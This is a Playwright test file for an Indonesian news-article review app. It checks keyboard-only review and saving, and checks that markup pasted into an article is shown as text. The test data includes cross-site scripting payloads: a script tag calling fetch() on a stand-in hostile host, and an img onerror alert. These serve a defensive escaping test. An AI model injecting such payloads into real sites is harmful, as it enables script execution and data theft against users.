"""Review in Chromium: an article pasted, accepted by keyboard, saved, and seen; markup in an article does nothing."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser
Visit = Callable[..., Page]
DRAWN = '[data-testid="stApp"][data-test-script-state="notRunning"] .items'
ARTICLES = Path(__file__).parents[1] / "golden" / "articles"


def paste(page: Page, name: str) -> None:
    """Paste a golden article and read it, by keyboard alone."""
    (path,) = ARTICLES.glob(f"{name}-*.txt")
    text = page.get_by_role("textbox", name="Teks artikel")
    text.fill(path.read_text(encoding="utf-8"))
    text.press("Tab")
    page.get_by_role("button", name="Baca artikel").press("Enter")


def test_an_article_is_accepted_by_keyboard_and_counts_when_saved(visit: Visit) -> None:
    page = visit("/tinjau")
    paste(page, "01")
    answer = page.locator("p.answer")
    expect(answer.filter(has_text="13 isian menunggu Anda").first).to_be_visible()
    page.get_by_role("button", name="Terima").first.wait_for()
    page.locator(DRAWN).wait_for()
    for left in range(12, -1, -1):
        page.keyboard.press("t")
        expect(answer.filter(has_text=f"{left} isian menunggu Anda").first).to_be_visible()
    page.get_by_role("button", name="Simpan yang diterima").press("Enter")
    saved = answer.filter(has_text="isian tersimpan sebagai muatan").first
    expect(saved).to_be_visible()
    batch = saved.locator("a").inner_text()
    page.get_by_role("link", name="Kabupaten Wonosobo").press("Enter")
    expect(page.get_by_role("heading", name="Kabupaten Wonosobo")).to_be_visible()
    expect(page.locator(".field", has_text="Peserta").first).to_contain_text("7.350–7.450")
    history = visit(f"/riwayat?batch={batch}")
    expect(history.get_by_role("heading", name="Ribuan ASN Wonosobo")).to_be_visible()


@pytest.mark.parametrize("width", [1440, 390])
def test_markup_in_an_article_is_text(visit: Visit, width: int) -> None:
    page = visit("/tinjau", width)
    page.on("dialog", lambda dialog: pytest.fail(f"the article opened a dialog: {dialog.message}"))
    paste(page, "51")
    press = page.locator(".press")
    expect(press).to_contain_text('<script>fetch("https://jahat.example/')
    expect(press).to_contain_text("**tidak** dipungut biaya")
    expect(press).to_contain_text("<img src=x onerror=alert(1)>")
    assert press.locator("img, script, a, b").count() == 0
    expect(press.locator("mark.now")).to_contain_text("Pemilu 2024")
    box, form = press.bounding_box(), page.locator(".item-now").bounding_box()
    assert box
    assert form
    assert form["y"] >= box["y"] + box["height"] if width == 390 else form["x"] >= box["x"] + box["width"]
    assert page.evaluate("document.querySelector('.stMainBlockContainer').scrollWidth") <= width
    page.get_by_role("button", name="Buang artikel ini").press("Enter")
    expect(page.get_by_role("heading", name="Tempel artikel atau pilih berkas")).to_be_visible()
